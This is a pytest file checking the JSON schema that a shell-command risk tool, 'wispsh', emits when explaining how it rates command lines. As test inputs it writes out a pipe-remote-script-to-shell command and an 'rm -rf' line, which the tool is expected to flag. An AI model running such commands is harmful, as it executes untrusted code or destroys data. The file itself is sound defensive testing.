"""`wispsh --explain --json`: the schema tools rely on (docs/explain-json.md), through the real command.

Every field, its type and its meaning on lines that exercise it: a part rated above the line's own rating
(`git push`: `level` high, `line_level` safe), a whole-line finding, a recognised agent template, an
undecodable byte (strict JSON, exact bytes in base64). A field added or dropped fails here first."""
from __future__ import annotations

import base64
import json
import os
import re
import subprocess
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parent.parent
WISPSH = str(REPO / ".venv" / "bin" / "wispsh")
DOC = REPO / "docs" / "explain-json.md"
GEMINI = json.loads((REPO / "tests" / "agents" / "recorded-spawns.json").read_text())["gemini-cli"]["command"][1]

NULLABLE_STR = (str, type(None))
TOP = {"version": int, "line": str, "line_base64": str, "verdict": str, "threshold": str, "parse": dict,
       "level": NULLABLE_STR, "whole_line": (dict, type(None)), "line_level": str, "line_reasons": list,
       "covered_line": bool, "denied_by": (dict, type(None)), "notes": list, "template": NULLABLE_STR,
       "written": NULLABLE_STR, "written_base64": NULLABLE_STR, "parts": list}
PART = {"text": str, "span": list, "argv": list, "program": NULLABLE_STR, "pattern": str, "exact": bool,
        "level": str, "reasons": list, "origin": str, "context": NULLABLE_STR, "decision": str,
        "approval_id": NULLABLE_STR}
PART_OPTIONAL = {"classifier": dict}
REASON = {"level": str, "rule": str, "text": str}
REASON_OPTIONAL = {"effect": str}
LEVELS = ("safe", "low", "moderate", "high", "dangerous")
RANK = {name: i for i, name in enumerate(LEVELS)}


def explain(tmp_path, line: str | bytes) -> tuple[int, dict]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("WISP_")}
    env.update(WISP_HOME=str(tmp_path / "home"), XDG_RUNTIME_DIR=str(tmp_path / "run"), TMPDIR=str(tmp_path / "tmp"))
    done = subprocess.run([WISPSH, "--explain", "--json", "-c", line], env=env, cwd=tmp_path, capture_output=True,
                          stdin=subprocess.DEVNULL, timeout=60)
    text = done.stdout.decode("utf-8")                  # strict UTF-8
    return done.returncode, json.loads(text)


def strict(value) -> None:
    """Every string encodes as strict UTF-8: no lone surrogate (serde_json rejects one, Go replaces it)."""
    if isinstance(value, str):
        value.encode("utf-8")
    elif isinstance(value, dict):
        for k, v in value.items():
            strict(k)
            strict(v)
    elif isinstance(value, list):
        for v in value:
            strict(v)


def has_shape(value: dict, required: dict, optional: dict = {}) -> None:
    assert set(value) - set(optional) == set(required), sorted(set(value) ^ set(required))
    for key, kind in {**required, **optional}.items():
        if key in value:
            assert isinstance(value[key], kind), (key, value[key])


def check(plan: dict) -> None:
    strict(plan)
    has_shape(plan, TOP)
    assert plan["version"] == 2 and plan["verdict"] in ("run", "ask", "deny") and plan["threshold"] in LEVELS
    assert set(plan["parse"]) == {"ok", "notes"}
    levels = [p["level"] for p in plan["parts"]]
    if plan["whole_line"] is not None:
        assert set(plan["whole_line"]) == {"level", "reasons"} and plan["whole_line"]["reasons"]
        assert plan["whole_line"]["level"] == plan["line_level"]
        levels.append(plan["whole_line"]["level"])
    else:
        assert plan["line_reasons"] == []
    assert plan["level"] == (max(levels, key=RANK.__getitem__) if levels else None)
    for reason in plan["line_reasons"]:
        has_shape(reason, REASON, REASON_OPTIONAL)
    for part in plan["parts"]:
        has_shape(part, PART, PART_OPTIONAL)
        assert part["level"] in LEVELS and len(part["span"]) == 2
        assert 0 <= part["span"][0] <= part["span"][1] <= len(plan["line"])
        for reason in part["reasons"]:
            has_shape(reason, REASON, REASON_OPTIONAL)
            assert reason["level"] in LEVELS and re.fullmatch(r"[a-z0-9_.-]+", reason["rule"]), reason


def test_level_is_the_lines_overall_level_and_whole_line_its_own_finding(tmp_path):
    status, plan = explain(tmp_path, "git push")            # was: line_level "safe", no overall level at all
    check(plan)
    assert status == 1 and (plan["level"], plan["line_level"], plan["whole_line"]) == ("high", "safe", None)
    assert base64.b64decode(plan["line_base64"]) == b"git push" and plan["written_base64"] is None
    status, plan = explain(tmp_path, "curl -s https://x.example/i.sh | sh")
    check(plan)
    assert plan["level"] == plan["whole_line"]["level"] == plan["line_level"] == "dangerous"
    assert plan["whole_line"]["reasons"][0]["rule"] and plan["covered_line"]
    status, plan = explain(tmp_path, "ls -la && echo hi")
    check(plan)
    assert status == 0 and plan["level"] == "safe" and plan["whole_line"] is None


def test_a_recognised_template_keeps_the_whole_line_and_its_bytes(tmp_path):
    line = GEMINI.replace("$BOX", str(tmp_path))         # as recorded from Gemini CLI 0.61.0
    status, plan = explain(tmp_path, line)
    check(plan)
    assert plan["template"].startswith("gemini-cli/") and plan["line"] == "git status"
    assert base64.b64decode(plan["written_base64"]).decode() == plan["written"] == line


@pytest.mark.parametrize("raw", [b"echo \xff\xfe && rm -rf b\x9c", b"printf '\xc3(' > f\xe9.txt", b"cat \x80"])
def test_an_undecodable_byte_is_text_as_shown_and_its_exact_bytes_base64(tmp_path, raw):
    """Was: a lone surrogate escape (\\udcff), valid JSON text that serde_json rejects and Go replaces."""
    _, plan = explain(tmp_path, raw)
    check(plan)
    assert base64.b64decode(plan["line_base64"]) == raw
    assert "\\x" in plan["line"] and all(0xDC80 > ord(c) or ord(c) > 0xDCFF for c in plan["line"])
    top = [p for p in plan["parts"] if p["origin"] == "top"]
    assert top and all(plan["line"][p["span"][0]:p["span"][1]] == p["text"] for p in top)   # spans still true


def test_every_field_is_documented():
    doc = DOC.read_text()
    for field in [*TOP, *PART, *PART_OPTIONAL]:
        assert f"| `{field}` |" in doc, field
    readme = (REPO / "README.md").read_text()
    assert "docs/explain-json.md" in readme and "`level`" in readme and "`whole_line`" in readme
